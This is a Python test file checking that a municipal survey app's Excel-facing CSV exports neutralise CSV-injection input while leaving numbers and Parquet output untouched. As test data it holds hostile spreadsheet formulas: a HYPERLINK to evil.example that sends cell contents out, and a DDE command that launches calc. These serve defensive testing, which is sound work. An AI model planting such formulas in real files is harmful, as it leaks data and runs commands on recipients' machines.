"""CSV injection: text cells of the Excel-facing CSV exports never start a formula; numbers stay numbers and
the files for statistical software keep the raw text."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from django.test import Client

from chiiki.core import audit
from chiiki.core.acting import Actor
from chiiki.core.models import Municipality, Role, User
from chiiki.surveys.export import ExportPlan, export_answers
from chiiki.surveys.xlsform import Field, Form
from chiiki.tables import excel_safe

HOSTILE = [
    '=HYPERLINK("http://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_run_as_a_formula_gets_an_apostrophe(text: str) -> None:
    assert excel_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-5", "+3.5", "-0.25", "1e-3", "-.5", "普通の文字", "a=b", "", 12, None, -5]
)
def test_numbers_and_harmless_text_stay_as_they_are(value: object) -> None:
    assert excel_safe(value) == value


def test_a_formula_typed_as_a_login_name_is_inert_in_the_audit_export(
    town_a: Municipality, make_staff: Callable[..., User], login: Callable[[User], Client]
) -> None:
    auditor = make_staff("a-auditor", town_a, Role.AUDITOR)
    client = login(auditor)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"クリック")'
    # Actor labels name respondents and commands, object ids come from uploaded files: both can be typed text.
    audit.record("surveys.test", by=Actor.system(hostile), municipality=town_a, object_id="-1+1")
    response = client.get("/staff/audit/export.csv", {"municipality": town_a.code})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + hostile in cells
    assert "'-1+1" in cells
    assert not any(cell[:1] in "=+-@\t\r" and cell[:1] for cell in cells), "a cell starts a formula"


def _plan() -> ExportPlan:
    form = Form(
        title="t", form_id="t", version="1", default_language="ja", languages=["ja"],
        children=[Field("text", "remarks", label={"ja": "備考"}), Field("integer", "change", label={"ja": "増減"})],
    )  # fmt: skip
    return ExportPlan.from_form(form, [])


def test_survey_answer_csv_neutralizes_text_but_keeps_numbers_and_parquet_raw(tmp_path: Path) -> None:
    answers = [("H1", {"remarks": HOSTILE[0], "change": -5}, {}), ("H2", {"remarks": "-5", "change": 3}, {})]
    export_answers(_plan(), answers, tmp_path, ["csv", "parquet"])
    with (tmp_path / "households.csv").open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert rows[0]["remarks"] == "'" + HOSTILE[0]
    assert rows[0]["change"] == "-5"  # a number column is never touched
    assert rows[1]["remarks"] == "-5"  # text that is a plain number cannot run and stays as typed
    assert pq.read_table(tmp_path / "households.parquet").column("remarks").to_pylist() == [HOSTILE[0], "-5"]


def test_print_contractor_csv_keeps_an_address_from_running_as_a_formula() -> None:
    from chiiki.surveys.contact.letters import IssuedKey, write_letters_csv

    stream = io.StringIO()
    key = IssuedKey(
        case_id=1, login_id="A1B2C3D4", access_key="ACEFHK34", postal_code="730-0001", address="-1+1"
    )
    write_letters_csv([key], stream, url="https://chiiki.example/answer/")
    row = list(csv.reader(io.StringIO(stream.getvalue().lstrip("\ufeff"))))[1]
    assert row[3] == "'-1+1"
    assert row[2] == "730-0001"  # starts with a digit: left alone


def test_linkage_review_csv_text_cells_are_inert_and_numbers_stay_numbers(tmp_path: Path) -> None:
    import polars as pl

    from chiiki.tables import write_excel_csv

    frame = pl.DataFrame({"name": ["=1+1", "\t=cmd", "-3", "山田"], "weight": [-5.5, 1.0, 2.0, 3.0]})
    write_excel_csv(frame, tmp_path / "review.csv")
    assert (tmp_path / "review.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader((tmp_path / "review.csv").open(encoding="utf-8-sig", newline="")))
    assert [r["name"] for r in rows] == ["'=1+1", "'\t=cmd", "-3", "山田"]
    assert rows[0]["weight"] == "-5.5"


def test_survey_csv_catches_a_formula_hidden_behind_a_tab(tmp_path: Path) -> None:
    export_answers(_plan(), [("H1", {"remarks": "\t=1+1", "change": 1}, {})], tmp_path, ["csv"])
    with (tmp_path / "households.csv").open(encoding="utf-8-sig", newline="") as stream:
        assert next(csv.DictReader(stream))["remarks"] == "'\t=1+1"
